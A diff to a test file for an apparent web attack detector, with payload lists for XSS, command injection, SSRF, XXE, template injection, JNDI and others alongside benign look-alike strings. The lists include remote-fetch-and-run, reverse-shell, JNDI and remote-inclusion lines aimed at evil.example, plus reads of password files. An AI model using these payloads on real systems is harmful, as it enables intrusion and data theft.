@@ -9,13 +9,13 @@ const ATTACKS: Record<string, string[]> = {
   xss: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(document.domain)>', 'javascript:alert(1)', '<a href="jav&#x09;ascript:alert(1)">x</a>', "';alert(String.fromCharCode(88,83,83))//", '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', '" autofocus onfocus="alert(1)'],
   lfi: ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//etc/passwd', '..\\..\\..\\windows\\win.ini', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '/proc/self/environ'],
   rce: [';cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example/x.sh | sh)', '127.0.0.1; nc -e /bin/sh 10.0.0.1 4444', '&& ping -c 10 127.0.0.1', '() { :; }; /bin/bash -c "id"', 'cmd.exe /c dir', ';c\'\'at /et\'\'c/pas\'\'swd', 'powershell -enc SQBFAFgA'],
-  ssrf: ['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://127.0.0.1:8080/admin', 'http://2130706433/', 'http://0x7f000001/', 'http://[::ffff:127.0.0.1]/', 'gopher://127.0.0.1:6379/_INFO', 'file:///etc/passwd', 'http://localhost/server-status'],
+  ssrf: ['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://127.0.0.1:8080/admin', 'http://2130706433/', 'http://0x7f000001/', 'http://[::ffff:127.0.0.1]/', 'gopher://127.0.0.1:6379/_INFO', 'file:///etc/passwd', 'http://localhost/server-status', 'http://\\g\\o\\o\\g\\l\\e.\\c\\o\\m/'],
   xxe: ['<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><r/>'],
-  ssti: ['{{7*7}}', "{{''.__class__.__mro__[1].__subclasses__()}}", '${7*7}', '<%= system("id") %>', '#{7*7}', '{{config.items()}}', '${T(java.lang.Runtime).getRuntime().exec("id")}'],
+  ssti: ['{{7*7}}', "{{''.__class__.__mro__[1].__subclasses__()}}", '${7*7}', '<%= system("id") %>', '#{7*7}', '{{config.items()}}', '${T(java.lang.Runtime).getRuntime().exec("id")}', '{% if True %}49{% endif %}', '<% if 1==1 %>x<% end %>', '{{#if true}}a{{/if}}'],
   jndi: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://evil.example/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}', '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}'],
   php: ['<?php system($_GET["c"]); ?>', 'php://filter/convert.base64-encode/resource=index.php', 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}', 'eval(base64_decode("cGhwaW5mbygpOw=="))', 'expect://id'],
   java: ['java.lang.Runtime.getRuntime().exec("id")', 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==', 'new ProcessBuilder("sh").start()', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'],
-  node: ['require("child_process").exec("id")', '_$$ND_FUNC$$_function(){require("child_process").exec("ls")}()', 'this.constructor.constructor("return process")().mainModule', 'process.mainModule.require("fs")'],
+  node: ['require("child_process").exec("id")', '_$$ND_FUNC$$_function(){require("child_process").exec("ls")}()', 'this.constructor.constructor("return process")().mainModule', 'process.mainModule.require("fs")', 'console.info(1)', 'console["log"](1)', 'console.info.call(this,1)', 'c\\u006fnsole.info(1)'],
   ldapi: ['*)(uid=*))(|(uid=*', 'admin)(|(password=*))', '*)(objectClass=*'],
   crlf: ['foo\r\nSet-Cookie: session=attacker', 'x%0d%0aLocation:%20http://evil.example'],
   rfi: ['http://203.0.113.66/shell.txt?', 'https://evil.example/shell.php?'],
@@ -28,6 +28,9 @@ const BENIGN: string[] = [
   'C:\\Program Files\\App', 'cat food delivery', 'who am i', 'date night ideas', '1+1=2', 'email@example.com', '2024-06-17T09:00:00Z', '€17,99',
   'We moved the docs to ../guide/setup.md', 'Use {{name}} as a placeholder', 'Cost: ${price}', 'node.js require vs import', 'a (b) c', 'OR', 'and',
   'Is <b>bold</b> supported?', 'javascript: the good parts', 'java.util.List is an interface', 'this is the 1st of the month', "don't; won't; can't",
+  'console.log(x) prints undefined', 'Console (retro edition)', 'process (step 2)', '{% if user.is_authenticated %}Hi {{ user.name }}{% endif %}',
+  `<p>Hello {{ name }}</p>${'{% if false %}<p>old banner, switched off</p>{% endif %}'}<p>${'Thanks for your order. '.repeat(5)}</p>`,
+  'C:\\Users\\grace\\AppData', '\\\\fileserver\\share\\report.xlsx',
 ];
 
 for (const [category, payloads] of Object.entries(ATTACKS)) {
@@ -128,4 +131,9 @@ test('paranoia 2 blocks on one high-confidence finding', () => {
   const probe = { query: `v=${encodeURIComponent("AND value = '")}` };
   assert.equal(inspect(probe).attack, false);
   assert.equal(inspect(probe, { paranoia: 2 }).attack, true);
+});
+
+test('the /etc/hosts loopback aliases are internal hosts in URL parameters; a public host there is not', () => {
+  for (const h of ['localhost4.localdomain4/', 'ipv6-localhost/', 'http://localhost6.localdomain6:8080/admin']) assert.ok(inspect({ query: `url=${encodeURIComponent(h)}` }).attack, h);
+  assert.equal(inspect({ query: `url=${encodeURIComponent('status.example.com/')}` }).attack, false);
 });
